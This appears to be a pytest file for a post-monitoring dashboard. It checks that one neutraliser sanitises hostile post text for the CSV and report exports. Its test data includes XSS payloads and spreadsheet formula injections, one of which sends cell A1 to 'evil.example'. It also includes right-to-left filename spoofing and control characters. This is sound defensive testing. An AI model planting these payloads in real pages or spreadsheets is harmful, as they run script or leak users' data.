"""Hostile content through the real path: the simulated X API serves posts whose text, author names and
locations carry markup, formulas, control characters and odd Unicode; the collector stores them; the
dashboard (a real streamlit server, headless Chromium), the explorer CSV and the weekly XLSX/CSV/PDF
show them as text.
"""
from __future__ import annotations

import pytest

from monitor import metrics
from monitor.reports.safety import neutralise

# (name, text). Each is a post's text; names and locations reuse some of them.
HOSTILE: list[tuple[str, str]] = [
    ("script-tag", "<script>alert(1)</script>"),
    ("img-onerror", "<img src=x onerror=\"window.__xss=1\">"),
    ("markdown", "**bold** _it_ [link](javascript:alert(1))"),
    ("heading", "# Heading"),
    ("latex", "$x^2$ and $$\\frac{a}{b}$$"),
    ("streamlit-colour", ":red[colour] :material/warning:"),
    ("formula-hyperlink", '=HYPERLINK("http://evil.example/?leak="&A1,"click")'),
    ("formula-plus", "+1"),
    ("formula-minus", "-2+3"),
    ("formula-at", "@SUM(1)"),
    ("tab-leading", "\t=1+1"),
    ("cr-leading", "\r=1+1"),
    ("quote-leading", "'quote"),
    ("csv-breaking", '"a","b"\n"c",d\r\nend'),
    ("rtl-override", "\u202eevil.exe\u202c txt.gpj"),
    ("zero-width", "zero\u200bwidth\u200cnon\u200djoiner\ufeffbom\u2060word"),
    ("combining", "Z\u0351\u0364\u0346a\u0308\u0301l\u0301go\u0489\u0489 cafe\u0301"),
    ("emoji", "Well done 🎉👏🏽 team 👩🏽‍🏫 🏴󠁧󠁢󠁷󠁬󠁳󠁿 🇬🇧 ❤️"),
    ("rtl-scripts", "שלום עליכם مرحبا بالعالم"),
    ("nul", "before\x00after"),
    ("control-chars", "bell\x07 vt\x0b ff\x0c esc\x1b[31m del\x7f"),
    ("lone-surrogate", "lone \ud800 high and \udfff low"),
    ("very-long", ("A" + "long text, " * 3000)[:30_000]),
]
assert len(HOSTILE[-1][1]) == 30_000


@pytest.mark.parametrize("name, value", HOSTILE, ids=[h[0] for h in HOSTILE])
def test_explorer_csv_and_reports_neutralise_the_same_way(name, value):
    """One neutraliser serves the explorer CSV (metrics.spreadsheet_safe) and the reports (safety.neutralise)."""
    assert metrics.spreadsheet_safe(value) == neutralise(value)
    assert metrics.spreadsheet_safe(None) == metrics.spreadsheet_safe("") == ""
    if "\x00" in value or "\x07" in value:
        assert "\x00" not in metrics.spreadsheet_safe(value) and "\x07" not in metrics.spreadsheet_safe(value)

